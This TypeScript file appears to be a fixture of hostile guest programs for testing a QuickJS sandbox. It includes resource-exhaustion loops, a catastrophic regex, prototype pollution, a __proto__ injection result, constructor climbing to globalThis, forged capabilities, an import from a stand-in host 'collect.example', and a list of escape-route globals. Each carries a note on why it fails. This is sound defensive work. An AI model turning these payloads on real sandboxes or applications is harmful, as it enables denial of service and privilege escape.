import type { Code } from '../../../core/index.ts';
import type { CapabilityDefinition } from '../../../workers/api.ts';

/** A hostile guest: a capability whose source tries to leave the sandbox, or to take it down. */
export interface Escape {
  /** The last part of its capability's name. */
  readonly slug: string;
  readonly title: string;
  /** The attempt, and the reason why it does not work. */
  readonly caption: string;
  /** The code that stops it. Without a code the guest may run to its end, and must have reached no forbidden name. */
  readonly stops?: Code;
  readonly source: string;
  readonly limits?: CapabilityDefinition['limits'];
}

/** Names that would mean a way out: of the page, of a worker, of Node, or of QuickJS's own library. */
const WAYS_OUT = [
  'fetch',
  'XMLHttpRequest',
  'WebSocket',
  'EventSource',
  'importScripts',
  'Worker',
  'WebAssembly',
  'SharedArrayBuffer',
  'Atomics',
  'postMessage',
  'indexedDB',
  'caches',
  'navigator',
  'document',
  'window',
  'self',
  'process',
  'require',
  'std',
  'os',
  'performance',
  'setTimeout',
];

const SEARCH = `const ways = ${JSON.stringify(WAYS_OUT)};
const reachable = (from) => ways.filter((name) => {
  try { return from?.[name] !== undefined; } catch { return false; }
});`;

export const ESCAPES: readonly Escape[] = [
  {
    slug: 'loop',
    title: 'Loop for ever',
    caption: 'Fuel counts every turn, the same in every browser. At the limit the loop is ended.',
    stops: 'fuel_exhausted',
    source: 'export default () => {\n  while (true);\n};',
  },
  {
    slug: 'swallow',
    title: 'Swallow the stop',
    caption: 'Catches every exception and goes on. The stop is not an exception, so the code cannot catch it.',
    stops: 'fuel_exhausted',
    source: `export default () => {
  for (;;) {
    try {
      while (true);
    } catch {
      continue;
    } finally {
      continue;
    }
  }
};`,
  },
  {
    slug: 'native',
    title: 'Hang in native code',
    caption:
      'A search over 2⁵³ places, inside the engine, where no fuel is counted. A watchdog ends the whole worker; a warm spare goes on.',
    stops: 'hang_killed',
    source: 'export default () =>\n  Array.prototype.indexOf.call({ length: 2 ** 53 - 1 }, 1);',
    limits: { deadlineMs: 400 },
  },
  {
    slug: 'regex',
    title: 'A hungry pattern',
    caption: 'Forty letters keep this expression busy for a thousand years. Matching costs fuel, too.',
    stops: 'fuel_exhausted',
    source: "export default () =>\n  /^(a+)+$/.test('a'.repeat(40) + 'b');",
  },
  {
    slug: 'memory',
    title: 'Eat all memory',
    caption:
      'The heap is a WebAssembly memory with a hard maximum. At the maximum the call ends, and its heap is thrown away.',
    stops: 'memory_exceeded',
    source: 'export default () => {\n  const all = [];\n  for (;;) all.push(new Uint8Array(1 << 20));\n};',
  },
  {
    slug: 'stack',
    title: 'Fall without a floor',
    caption: 'Recursion ends at the guest’s own stack, long before the host’s.',
    stops: 'stack_exceeded',
    source: 'export default () => {\n  const fall = () => fall() + 1;\n  return fall();\n};',
  },
  {
    slug: 'promises',
    title: 'A storm of promises',
    caption: 'Each job is too short for the fuel counter to see. So the jobs are counted.',
    stops: 'jobs_exceeded',
    source: `export default () => {
  const again = () => Promise.resolve().then(again);
  return again();
};`,
  },
  {
    slug: 'output',
    title: 'Flood the answer',
    caption: 'Returns a megabyte instead of a sentence. The host measures the result before it reads it.',
    stops: 'bytes_out_exceeded',
    source: "export default () => ({ reached: [], saw: 'x'.repeat(1 << 20) });",
  },
  {
    slug: 'console',
    title: 'Flood the console',
    caption: 'The log has a limit of its own. At the limit the call ends.',
    stops: 'console_exceeded',
    source: `export default () => {
  for (let line = 0; line < 1000; line += 1) console.log('look here '.repeat(100));
  return { reached: [] };
};`,
  },
  {
    slug: 'globals',
    title: 'Look for a way out',
    caption: 'Looks for the network, the page, workers, storage and shared memory. The sandbox has none of them.',
    source: `${SEARCH}
export default () => ({
  reached: reachable(globalThis),
  saw: Object.getOwnPropertyNames(globalThis).join(' '),
});`,
  },
  {
    slug: 'import',
    title: 'Import a module from a server',
    caption: 'There is no loader behind import(): not for the network, not for the engine’s own library.',
    source: `export default async () => {
  const reached = [];
  for (const name of ['https://collect.example/x.js', 'std', 'os', 'data:text/javascript,0']) {
    try {
      await import(name);
      reached.push(name);
    } catch (error) {
      console.log(name, '→', error.message);
    }
  }
  return { reached };
};`,
  },
  {
    slug: 'constructor',
    title: 'Climb the constructors',
    caption: 'Every function leads to Function, and Function to the global object. That object is the sandbox’s own.',
    source: `${SEARCH}
export default (args, powers) => {
  const found = [args, [], () => {}, async () => {}, Symbol.iterator, console.log];
  const reached = found.flatMap((thing) => {
    try {
      return reachable(thing.constructor.constructor('return globalThis')());
    } catch {
      return [];
    }
  });
  return { reached: [...reached, ...reachable(Object.getPrototypeOf(powers))] };
};`,
  },
  {
    slug: 'pollute',
    title: 'Poison every prototype',
    caption: 'Rewrites JSON, Promise and Object to harm the next call. The next call starts from a fresh heap.',
    source: `export default () => {
  Object.prototype.polluted = true;
  Array.prototype.toJSON = () => 'stolen';
  JSON.parse = JSON.stringify = () => '{"reached":["everything"]}';
  Promise.prototype.then = () => 'stolen';
  globalThis.kept = 'a message to the next call';
  return { __proto__: null, reached: { __proto__: null, length: 0, toJSON: () => [] } };
};`,
  },
  {
    slug: 'ticket',
    title: 'Forge a power',
    caption:
      'Uses powers that it never declared, and tries to answer its own calls. The host passes powers by name, and frozen.',
    source: `export default async (args, powers) => {
  const reached = Object.keys(powers);
  const tries = {
    'a new power': () => { powers.fetch = () => 'mine'; return powers.fetch(); },
    'an undeclared one': () => powers.clock(),
    'the host’s door': () => globalThis.resume('[1,1,"true"]'),
    'the ticket table': () => globalThis.pending[1].resolve('mine'),
  };
  for (const [name, attempt] of Object.entries(tries)) {
    try {
      await attempt();
      reached.push(name);
    } catch (error) {
      console.log(name, '→', error.message);
    }
  }
  return { reached };
};`,
  },
  {
    slug: 'proxy',
    title: 'Answer with a trap',
    caption: 'Returns a proxy that never ends. The sandbox writes it out on the guest’s own fuel.',
    stops: 'fuel_exhausted',
    source: `export default () =>
  new Proxy({}, { get() { while (true); }, ownKeys() { while (true); } });`,
  },
  {
    slug: 'thenable',
    title: 'A promise that never settles',
    caption: 'Returns a thenable that resolves to itself for ever. Each turn is a job, and jobs are counted.',
    stops: 'jobs_exceeded',
    source: 'export default () => {\n  const circle = { then(resolve) { resolve(circle); } };\n  return circle;\n};',
  },
  {
    slug: 'proto',
    title: 'A result that changes yours',
    caption:
      'Returns a member called __proto__ to harm a program that merges answers. The schema does not list it, so the answer is dropped.',
    stops: 'result_schema',
    source: `export default () =>
  JSON.parse('{"reached":[],"__proto__":{"isAdmin":true}}');`,
  },
  {
    slug: 'deep',
    title: 'A well of brackets',
    caption: 'Returns half a million levels of nesting. The guest runs out of its own stack while it parses them.',
    stops: 'stack_exceeded',
    source: "export default () =>\n  JSON.parse('['.repeat(5e5) + ']'.repeat(5e5));",
  },
  {
    slug: 'clock',
    title: 'Measure and guess',
    caption:
      'Looks for a moving clock and for unrecorded random numbers. In the sandbox time stands still, and random numbers are recorded.',
    source: `export default () => {
  const before = Date.now();
  for (let turn = 0; turn < 100000; turn += 1);
  const reached = Date.now() === before ? [] : ['a clock that moves'];
  if (new Date().getTimezoneOffset() !== 0) reached.push('the time zone');
  return { reached, saw: before + ', ' + Math.random() };
};`,
  },
];
